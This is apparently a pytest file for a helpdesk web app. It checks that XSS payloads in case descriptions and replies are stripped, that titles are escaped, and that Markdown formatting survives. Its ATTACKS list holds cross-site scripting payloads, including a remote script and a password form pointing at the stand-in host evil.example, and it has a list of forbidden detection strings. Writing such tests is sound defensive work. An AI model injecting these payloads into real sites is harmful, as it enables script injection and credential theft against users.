"""User-written Markdown on the case page: formatting survives, scripts and handlers never reach the page."""

import re

import pytest

from cases import services
from tests.factories import case_create

ATTACKS = [
    "<script>alert('xss')</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "[click me](javascript:alert('xss'))",
    "[encoded](JaVaScRiPt&#58;alert('xss'))",
    "![img](javascript:alert('xss'))",
    '<img src="x" onerror="alert(\'xss\')">',
    '<a href="https://example.com" onclick="alert(\'xss\')">link</a>',
    "<iframe src=https://evil.example></iframe>",
    '<div style="background:url(javascript:alert(1))" onmouseover="alert(1)">hover</div>',
    "<svg><script>alert('xss')</script></svg>",
    "<form action=https://evil.example><input name=password></form>",
]

# The {% icon %} tag's markup (helpdesk_tags.icon), exactly: anything else shaped like an SVG is the attack.
LAYOUT_ICON = re.compile(
    r'<svg class="bi[^"<>]*" aria-hidden="true" focusable="false"><use href="[^"<>]*"></use></svg>'
)
FORBIDDEN = ["alert(", "javascript:", "onerror", "onclick", "onmouseover", "<iframe", "<svg", "<form action"]


@pytest.mark.parametrize("attack", ATTACKS)
def test_description_and_replies_are_sanitised(attack, organization, standard_user, consultant, client_for):
    case = case_create(organization, standard_user, title="Harmless title", description=f"Look:\n\n{attack}")
    services.case_reply(case=case, author=standard_user, body=f"Again: {attack}")
    services.case_reply(case=case, author=consultant, body=f"Note: {attack}", internal=True)

    for user in (standard_user, consultant):
        html = client_for(user).get(case.get_absolute_url()).content.decode()
        body = html.split("<body", 1)[1]  # the layout's own <script src> tags are in the head
        lowered = LAYOUT_ICON.sub("", body).lower()  # the layout's own icons are <svg> too
        for needle in FORBIDDEN:
            assert needle not in lowered, needle
        assert "<script" not in lowered


def test_title_is_escaped_not_rendered(organization, standard_user, client_for):
    case = case_create(organization, standard_user, title="<script>alert(1)</script> & <b>bold</b>")

    html = client_for(standard_user).get(case.get_absolute_url()).content.decode()

    assert "&lt;script&gt;alert(1)&lt;/script&gt; &amp; &lt;b&gt;bold&lt;/b&gt;" in html
    assert "<script>alert(1)" not in html


def test_markdown_formatting_survives(organization, standard_user, client_for):
    description = (
        "**Steps**\n\n1. Open *Invoices*\n2. Print\n\n`ERR-42`\n\n[Manual](https://docs.example.com/a)"
    )
    case = case_create(organization, standard_user, description=description)

    html = client_for(standard_user).get(case.get_absolute_url()).content.decode()

    assert "<strong>Steps</strong>" in html
    assert "<em>Invoices</em>" in html
    assert "<ol>" in html
    assert "<code>ERR-42</code>" in html
    assert 'href="https://docs.example.com/a"' in html
    assert 'rel="noopener noreferrer nofollow"' in html
